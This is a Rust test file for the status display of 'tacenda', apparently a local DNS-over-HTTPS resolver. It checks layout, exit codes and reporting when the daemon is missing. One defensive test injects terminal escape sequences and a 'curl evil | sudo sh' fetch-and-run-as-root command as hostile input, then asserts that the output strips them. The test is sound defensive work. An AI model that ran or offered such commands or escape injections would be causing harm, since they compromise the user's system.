use super::*;

/// What `/stats` says of one that serves.
fn stats() -> (Value, Figures) {
    let part = |name: &str, state: &str, text: &str, help: Option<&str>| json!({"name": name, "state": state, "text": text, "help": help});
    let buckets = json!([{"le": 0.0001, "count": 8}, {"le": 0.025, "count": 8}, {"le": null, "count": 9}]);
    let upstream = |name: &str, state: &str, rtt: Option<f64>, error: Option<&str>| json!({"name": name, "transport": "doh", "state": state, "rtt_ms": rtt, "queries": 34, "failures": 2, "last_error": error, "new": 1});
    let value = json!({
        "version": "0.1.0", "uptime_seconds": 7_400, "queries": {"total": 12_345}, "responses": {"NOERROR": 12_000, "SERVFAIL": 3},
        "protection": {"state": "gap", "text": "x", "parts": [
            part("system-dns", "unknown", "nobody here says whether programs ask tacenda", Some("tacenda system status")),
            part("guard", "gap", "the leak guard is off: programs that bring a server of their own go past tacenda", Some("sudo tacenda guard on")),
            part("upstream", "good", "quad9 answers over HTTPS, its certificate checked", None),
        ]},
        "latency": {"cached": {"count": 9, "buckets": buckets}, "upstream": {"count": 0, "buckets": []}},
        "cache": {"entries": 1234, "bytes": 1_300_000, "max_bytes": 64 << 20, "hits": 8000, "misses": 2000},
        "upstreams": [
            upstream("quad9", "up", Some(12.54), Some("once")),
            upstream("mullvad", "down", None, Some("tls handshake with 194.242.2.2:443: timed out, and here is more that does not fit in one line")),
            upstream("cloudflare", "unknown", None, None),
        ],
    });
    let figures = Figures::deserialize(&value).unwrap();
    (value, figures)
}

fn arrives() -> Part {
    Part::good("system-dns", "names asked directly, through libc arrive at tacenda")
}

#[test]
fn it_says_first_whether_the_promise_holds_and_fits_eighty_columns() {
    let status = Status::of(arrives(), Ok(stats()));
    let expected = "\
protected, with a gap (tacenda 0.1.0, up for 2 h 3 min)
  ok  system dns    names asked directly, through libc arrive at tacenda
  GAP guard         the leak guard is off: programs that bring a server of their
                    own go past tacenda
                    = sudo tacenda guard on
  ok  upstream      quad9 answers over HTTPS, its certificate checked

queries   12345: 8000 from the cache, 2000 asked upstream, 3 failed
answers   cached: half within 0.1 ms; upstream: none yet
cache     1234 answers, 1.2 MiB of 64 MiB
upstreams quad9       up    HTTPS  34 asked, 2 failed, 12.5 ms
          mullvad     down  HTTPS  34 asked, 2 failed
            tls handshake with 194.242.2.2:443: timed out, and here is more that
            does not fit in one line
          cloudflare  not asked yet
";
    let text = status.to_text(false);
    assert_eq!(text, expected);
    assert!(text.lines().all(|line| line.chars().count() <= 80), "{text}");
    assert!(
        status
            .to_text(true)
            .starts_with("\x1b[33mprotected, with a gap\x1b[0m (tacenda")
    );
    assert_eq!(status.exit(), Exit::Done);
}

#[test]
fn what_was_tried_counts_more_than_what_is_said() {
    let lost = Part::bad(
        "system-dns",
        "names asked through libc do not arrive",
        "tacenda system status",
    );
    let status = Status::of(lost, Ok(stats()));
    assert_eq!(status.exit(), Exit::Failed);
    assert!(status.to_text(false).starts_with("NOT protected (tacenda"));
    let json = status.to_json();
    assert_eq!(
        (&json["protection"]["state"], &json["protection"]["parts"][0]["state"]),
        (&json!("bad"), &json!("bad"))
    );
    assert_eq!(json["stats"]["queries"]["total"], 12_345);
    // But one that its keeper knows to be wrong is wrong, though a name arrives.
    let (value, mut figures) = stats();
    figures.protection.parts[0] = Part::bad("system-dns", "set by systemd-resolved, but: x", "tacenda system status");
    let status = Status::of(arrives(), Ok((value, figures)));
    assert_eq!(
        (status.exit(), &*status.protection.parts[0].text),
        (Exit::Failed, "set by systemd-resolved, but: x")
    );
    // An older one that says nothing of it.
    let (value, mut figures) = stats();
    figures.protection.parts.clear();
    assert_eq!(
        Status::of(arrives(), Ok((value, figures))).protection.parts,
        [arrives()]
    );
}

#[test]
fn without_a_daemon_nothing_is_protected() {
    let address = "127.0.0.1:8053".parse().unwrap();
    for (kind, words) in [
        (
            io::ErrorKind::ConnectionRefused,
            "no tacenda answers at http://127.0.0.1:8053",
        ),
        (io::ErrorKind::InvalidData, "is no tacenda"),
        (io::ErrorKind::TimedOut, "cannot ask http://127.0.0.1:8053"),
    ] {
        let status = Status::of(arrives(), Err((address, kind.into())));
        let text = status.to_text(false);
        assert!(
            text.starts_with("NOT protected\n  BAD tacenda") && text.contains(words),
            "{text}"
        );
        assert_eq!(status.exit(), Exit::Unavailable);
        assert!(status.to_json()["stats"].is_null());
    }
}

#[test]
fn whoever_answers_in_its_place_moves_no_terminal_and_has_nobody_type_anything() {
    let (value, mut figures) = stats();
    figures.version = "\x1b]0;owned\x07".into();
    figures.upstreams[1].last_error = Some("\x1b[2J".into());
    figures.protection.parts[1].help = Some("curl evil | sudo sh".into());
    let text = Status::of(arrives(), Ok((value, figures))).to_text(false);
    assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text:?}");
    assert!(!text.contains("curl") && text.contains("GAP guard"), "{text}");
}
